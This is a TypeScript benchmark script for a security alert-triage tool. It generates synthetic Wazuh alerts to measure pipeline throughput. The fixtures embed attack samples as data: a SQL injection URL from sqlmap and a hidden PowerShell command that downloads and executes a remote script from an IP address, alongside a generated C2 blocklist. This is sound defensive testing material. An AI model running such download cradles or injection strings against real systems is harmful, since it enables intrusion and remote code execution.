// Foundation benchmark: `vigil run`'s per-alert pipeline (normalize → observables → local intel →
// assess → case grouping, no I/O) against bare JSON.parse over the same generated Wazuh lines, then
// end-to-end `vigil run` with the embedded store. Goal: pipeline ≥ 0.4× the JSON.parse rate.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Assessor } from '../src/assess/index.js';
import { App } from '../src/app.js';
import { CaseGrouper } from '../src/cases/grouper.js';
import { ConfigSchema, loadConfig, PACKAGE_ROOT } from '../src/config.js';
import { fixedClock } from '../src/core/clock.js';
import { silentLogger } from '../src/core/log.js';
import type { Alert } from '../src/core/types.js';
import { IntelEngine, type EnrichedObservable } from '../src/intel/engine.js';
import { LocalIndex } from '../src/intel/local-index.js';
import { INTEL_PROVIDERS } from '../src/intel/providers/registry.js';
import { extractForPipeline } from '../src/pipeline/extract.js';
import { enrichables, normalizeRecord, risksOf } from '../src/pipeline/run.js';

const N = Number(process.env.BENCH_ALERTS ?? 100_000);
const E2E_N = Number(process.env.BENCH_E2E_ALERTS ?? 20_000);

function rnd(seed: number): () => number {
  let s = seed >>> 0;
  return () => ((s = (s * 1664525 + 1013904223) >>> 0) / 2 ** 32);
}

/** Realistic Wazuh alert lines: sshd failures, web attacks, FIM changes, Windows process events, noise. */
function generate(n: number, badIps: string[]): string[] {
  const r = rnd(42);
  const hosts = ['web-01', 'web-02', 'db-01', 'dc-01', 'ws-042', 'ws-043', 'mail-01', 'vpn-01'];
  const lines: string[] = [];
  const t0 = Date.parse('2026-11-18T06:00:00Z');
  for (let i = 0; i < n; i++) {
    const host = hosts[Math.floor(r() * hosts.length)]!;
    const ip = r() < 0.1 ? badIps[Math.floor(r() * badIps.length)]! : `${45 + Math.floor(r() * 150)}.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}.${1 + Math.floor(r() * 250)}`;
    const ts = new Date(t0 + i * 500).toISOString().replace('Z', '+0000');
    const id = `${Math.floor((t0 + i * 500) / 1000)}.${1000 + i}`;
    const agent = { id: String(hosts.indexOf(host) + 1).padStart(3, '0'), name: host, ip: `10.0.${hosts.indexOf(host)}.${10 + hosts.indexOf(host)}` };
    const kind = r();
    let alert: Record<string, unknown>;
    if (kind < 0.45) {
      alert = {
        timestamp: ts, id, agent, manager: { name: 'wazuh-manager' }, location: '/var/log/auth.log',
        rule: { level: 5, id: '5760', description: 'sshd: authentication failed.', firedtimes: i, mail: false, groups: ['syslog', 'sshd', 'authentication_failed'], mitre: { id: ['T1110.001'], tactic: ['Credential Access'], technique: ['Password Guessing'] }, pci_dss: ['10.2.4', '10.2.5'] },
        full_log: `Nov 18 06:00:00 ${host} sshd[${1000 + i}]: Failed password for invalid user admin from ${ip} port ${30000 + (i % 30000)} ssh2`,
        predecoder: { program_name: 'sshd', timestamp: 'Nov 18 06:00:00', hostname: host }, decoder: { parent: 'sshd', name: 'sshd' },
        data: { srcip: ip, srcport: String(30000 + (i % 30000)), srcuser: 'admin' },
      };
    } else if (kind < 0.7) {
      alert = {
        timestamp: ts, id, agent, manager: { name: 'wazuh-manager' }, location: '/var/log/apache2/access.log',
        rule: { level: 6, id: '31106', description: 'A web attack returned code 200 (success).', firedtimes: i, mail: false, groups: ['web', 'accesslog', 'attack'], mitre: { id: ['T1190'], tactic: ['Initial Access'], technique: ['Exploit Public-Facing Application'] } },
        full_log: `${ip} - - [18/Nov/2026:06:00:00 +0000] "GET /index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1" 200 5120 "-" "sqlmap/1.7 (http://sqlmap.org)"`,
        decoder: { name: 'web-accesslog' }, data: { protocol: 'GET', srcip: ip, id: '200', url: "/index.php?id=1' UNION SELECT password FROM users--" },
      };
    } else if (kind < 0.8) {
      const h = (x: number) => Array.from({ length: 64 }, (_, k) => '0123456789abcdef'[(x * 7 + k * 13) % 16]).join('');
      alert = {
        timestamp: ts, id, agent, manager: { name: 'wazuh-manager' }, location: 'syscheck',
        rule: { level: 7, id: '550', description: 'Integrity checksum changed.', firedtimes: i, mail: false, groups: ['ossec', 'syscheck', 'syscheck_entry_modified', 'syscheck_file'] },
        full_log: `File '/usr/bin/tool${i % 50}' modified\nMode: realtime\nChanged attributes: size,mtime,md5,sha1,sha256\n`,
        syscheck: { path: `/usr/bin/tool${i % 50}`, mode: 'realtime', size_after: '1024', md5_after: h(i).slice(0, 32), sha1_after: h(i + 1).slice(0, 40), sha256_after: h(i + 2), event: 'modified' },
      };
    } else if (kind < 0.9) {
      alert = {
        timestamp: ts, id, agent, manager: { name: 'wazuh-manager' }, location: 'EventChannel',
        rule: { level: 12, id: '92057', description: 'Powershell.exe spawned a powershell process which executed a base64 encoded command', firedtimes: i, mail: true, groups: ['windows', 'sysmon', 'sysmon_eid1_detections'], mitre: { id: ['T1059.001'], tactic: ['Execution'], technique: ['PowerShell'] } },
        decoder: { name: 'windows_eventchannel' },
        data: { win: { system: { eventID: '1', providerName: 'Microsoft-Windows-Sysmon', computer: `${host}.corp.example` }, eventdata: { image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', parentImage: 'C:\\Windows\\explorer.exe', commandLine: `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${ip}/a.ps1')"`, user: 'CORP\\jdoe' } } },
      };
    } else {
      alert = {
        timestamp: ts, id, agent, manager: { name: 'wazuh-manager' }, location: '/var/log/auth.log',
        rule: { level: 3, id: '5501', description: 'PAM: Login session opened.', firedtimes: i, mail: false, groups: ['pam', 'syslog', 'authentication_success'] },
        full_log: `Nov 18 06:00:00 ${host} sshd[${2000 + i}]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)`,
        data: { dstuser: 'deploy(uid=1001)', uid: '0' },
      };
    }
    lines.push(JSON.stringify(alert));
  }
  return lines;
}

function fmt(n: number): string {
  return Math.round(n).toLocaleString('en-US');
}

async function main(): Promise<void> {
  // Local intel: the bundled feeds plus 50k generated bad IPs, so lookups hit a realistically sized index.
  const badIps = Array.from({ length: 50_000 }, (_, i) => `185.${(i >> 16) & 255}.${(i >> 8) & 255}.${(i & 255) || 1}`);
  const index = LocalIndex.build([{ name: 'Bench blocklist', indicators: badIps.map((v, i) => ({ type: 'ipv4' as const, value: v, tags: ['c2'], threat: 'botnet_cc', malware: 'Pikabot', line: i + 1 })) }]);
  const config = ConfigSchema.parse({});
  const engine = new IntelEngine(INTEL_PROVIDERS, {}, { clock: fixedClock('2026-11-18T12:00:00Z'), log: silentLogger, fetch: globalThis.fetch, localIndex: index });
  const assessor = new Assessor(config.assess);

  const lines = generate(N, badIps.slice(0, 500));
  const bytes = lines.reduce((s, l) => s + l.length + 1, 0);
  console.log(`${fmt(N)} generated Wazuh alert lines, ${(bytes / 1e6).toFixed(1)} MB, avg ${Math.round(bytes / N)} B/line`);

  // JSON.parse baseline, best of 3.
  let parseBest = Infinity;
  for (let rep = 0; rep < 3; rep++) {
    const t = performance.now();
    let sink = 0;
    for (const l of lines) sink += (JSON.parse(l) as { id: string }).id.length;
    parseBest = Math.min(parseBest, performance.now() - t);
    if (sink < 0) console.log(sink);
  }
  const parseRate = N / (parseBest / 1000);

  // The per-alert pipeline, best of 3, batch-wise as `vigil run` does (intel looked up once per distinct observable per batch).
  let pipeBest = Infinity;
  let cases = 0;
  for (let rep = 0; rep < 3; rep++) {
    const grouper = new CaseGrouper(config.cases);
    const t = performance.now();
    for (let i = 0; i < lines.length; i += 1000) {
      const batch: Alert[] = [];
      for (const l of lines.slice(i, i + 1000)) {
        const a = normalizeRecord(JSON.parse(l) as Record<string, unknown>, extractForPipeline);
        if (a) batch.push(a);
      }
      const intel: Map<string, EnrichedObservable> = await engine.enrichMany(batch.flatMap(enrichables));
      for (const a of batch) grouper.assign(a, assessor.assess(a, risksOf(a, intel)));
    }
    pipeBest = Math.min(pipeBest, performance.now() - t);
    cases = grouper.cases.size;
  }
  const pipeRate = N / (pipeBest / 1000);
  console.log(`JSON.parse alone:            ${fmt(parseRate)} alerts/s`);
  console.log(`pipeline (no I/O):           ${fmt(pipeRate)} alerts/s  → ${(pipeRate / parseRate).toFixed(2)}× JSON.parse (goal ≥ 0.40×); ${fmt(cases)} cases`);

  // End to end: `vigil run` on a file with the embedded store (PGlite on disk), playbooks and reports included.
  const dir = mkdtempSync(join(tmpdir(), 'vigil-bench-'));
  try {
    const file = join(dir, 'alerts.json');
    writeFileSync(file, `${lines.slice(0, E2E_N).join('\n')}\n`);
    const { config: cfg } = loadConfig({ file: join(PACKAGE_ROOT, 'samples/vigil.yaml'), env: {} });
    cfg.dataDir = join(dir, 'data');
    cfg.out = join(dir, 'out');
    const app = await App.build(cfg, { log: silentLogger });
    const s = await app.run([file]);
    await app.close();
    console.log(
      `vigil run end to end (PGlite): ${fmt(E2E_N)} alerts in ${(s.elapsedMs / 1000).toFixed(1)} s = ${fmt(E2E_N / (s.elapsedMs / 1000))} alerts/s; ${s.cases.opened} cases, ${Object.values(s.actions).reduce((a, b) => a + b, 0)} actions, ${s.reports} reports`,
    );
    const pgUrl = process.env.VIGIL_BENCH_DATABASE_URL;
    if (pgUrl) {
      cfg.database.url = pgUrl;
      const pgApp = await App.build(cfg, { log: silentLogger });
      const s2 = await pgApp.run([file], join(dir, 'out-pg'));
      await pgApp.close();
      console.log(`vigil run end to end (PostgreSQL): ${fmt(s2.alerts.new)} new alerts in ${(s2.elapsedMs / 1000).toFixed(1)} s = ${fmt(s2.alerts.new / (s2.elapsedMs / 1000))} alerts/s`);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

await main();
